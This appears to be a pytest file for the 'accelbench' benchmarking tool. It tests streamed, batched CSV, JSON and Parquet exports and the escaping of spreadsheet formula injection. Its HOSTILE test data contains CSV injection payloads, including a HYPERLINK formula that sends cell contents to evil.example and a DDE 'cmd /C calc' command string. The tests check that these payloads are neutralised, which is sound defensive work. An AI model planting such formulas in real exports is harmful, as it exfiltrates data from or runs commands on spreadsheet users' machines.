"""``accelbench export`` at scale and in spreadsheets (issue 47): exports stream one
result at a time from the store (bounded memory), and CSV cells a spreadsheet would run
as formulas are escaped (OWASP: a leading single quote)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from accelbench.report.export import csv_cell, to_json, write_export
from accelbench.result import Result
from accelbench.store import ResultFilter, open_store
from tests.conftest import run_cli
from tests.test_compare import make_result

HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "eq",
    "+1+cmd|' /C calc'!A0": "plus",
    "-2+3": "minus",
    "@SUM(A1:A9)": "at",
}


def test_formula_cells_are_escaped_in_a_real_csv_export(tmp_path: Path) -> None:
    db = tmp_path / "inj.db"
    with open_store(str(db)) as st:
        for i, tag in enumerate(HOSTILE):
            st.save(make_result(f"inj{i}", tag=tag,
                                finished=f"2026-01-01T00:00:0{i}.000+00:00"))
        st.save(make_result("plain", tag="nightly", finished="2026-01-01T00:00:09.000+00:00"))
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    out = tmp_path / "x.csv"
    for argv in (("export", "--format", "csv"), ("export", "--format", "csv", "--out", str(out))):
        proc = run_cli(*argv, db=db)
        assert proc.returncode == 0, proc.stderr
        text = proc.stdout if "--out" not in argv else out.read_text(encoding="utf-8")
        rows = {r["result_id"]: r for r in csv.DictReader(io.StringIO(text))}
        for i, tag in enumerate(HOSTILE):
            assert rows[f"inj{i}"]["tag"] == "'" + tag  # text, never a live formula
        assert rows["plain"]["tag"] == "nightly"
        # Numbers stay numbers, also negative ones a cell may hold.
        float(rows["plain"]["samples_per_s"])
    # JSON keeps the tag as stored: it is data, not a spreadsheet.
    proc = run_cli("export", "--format", "json", db=db)
    tags = {c["result_id"]: c["tag"] for c in json.loads(proc.stdout)["cases"]}
    assert tags["inj0"] == next(iter(HOSTILE))
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
def test_every_owasp_formula_start_is_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell("a" + value) == "a" + value
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) == ""


def _watched(results: list[Result], stream: io.StringIO, seen: list[int]) -> Iterator[Result]:
    """The results, noting how much of the output was written before each is handed out."""
    for r in results:
        seen.append(len(stream.getvalue()))
        yield r


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_text_exports_write_each_result_before_reading_the_next(fmt: str) -> None:
    results = [make_result(f"s{i}", finished=f"2026-01-01T00:00:0{i}.000+00:00")
               for i in range(4)]
    buf = io.StringIO()
    seen: list[int] = []
    count, paths = write_export(_watched(results, buf, seen), fmt, None, stream=buf)
    assert count == 4 and paths == []
    assert all(b > a for a, b in zip(seen, seen[1:], strict=False))  # output grew each time
    if fmt == "json":
        assert buf.getvalue() == to_json(results)  # the same text as the whole document


def test_cli_export_streams_the_store_in_batches(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Through the CLI's own path: the store is read in keyset batches (3 rows here), and
    the export holds them all in order, newest first."""
    import accelbench.store.results as results_mod

    db = tmp_path / "b.db"
    with open_store(str(db)) as st:
        for i in range(7):
            st.save(make_result(f"b{i}", finished=f"2026-01-01T00:00:0{i}.000+00:00"))
        assert st.count() == 7 and st.count(ResultFilter(workload="lstm")) == 0
        monkeypatch.setattr(results_mod, "BATCH_ROWS", 3)
        reads: list[int] = []
        real_rows = st.rows

        def counting(stmt: Any) -> Any:
            rows = real_rows(stmt)
            reads.append(len(rows))
            return rows

        monkeypatch.setattr(st, "rows", counting)
        ids = [r.id for r in st.iter_query(batch=3)]
        assert ids == [f"b{i}" for i in range(6, -1, -1)]
        assert reads == [3, 3, 3, 3, 1, 1]  # each batch: its page of ids, then its records
        assert [r.id for r in st.iter_query(ResultFilter(limit=4, offset=2), batch=3)] == [
            "b4", "b3", "b2", "b1"]
    proc = run_cli("export", "--format", "csv", db=db)
    assert [r["result_id"] for r in csv.DictReader(io.StringIO(proc.stdout))] == ids


def test_parquet_export_is_written_in_row_groups(tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    from accelbench.report.export import write_parquet

    results = [make_result(f"p{i}", finished=f"2026-01-01T00:00:0{i}.000+00:00")
               for i in range(5)]
    cases, samples = write_parquet(iter(results), tmp_path / "x.parquet", batch=2,
                                   case_group=2, sample_group=2)
    meta = pq.ParquetFile(cases).metadata
    assert meta.num_rows == 5 and meta.num_row_groups == 3
    assert pq.read_table(cases).column("result_id").to_pylist() == [r.id for r in results]
    assert pq.ParquetFile(samples).metadata.num_rows == sum(
        len(r.iteration_times_s) + len(r.warmup_times_s) for r in results)


def test_results_csv_quotes_formula_cells_too(tmp_path: Path) -> None:
    db = tmp_path / "cmp.db"
    tag = "=HYPERLINK(\"http://evil.example\",\"x\")"
    with open_store(str(db)) as st:
        st.save(make_result("a1", tag=tag, finished="2026-01-01T00:00:01.000+00:00"))
        st.save(make_result("b1", tag=tag, precision="amp_bf16",
                            finished="2026-01-01T00:00:02.000+00:00"))
    proc = run_cli("results", "--csv", db=db)
    assert proc.returncode == 0, proc.stderr
    assert {r["tag"] for r in csv.DictReader(io.StringIO(proc.stdout))} == {"'" + tag}
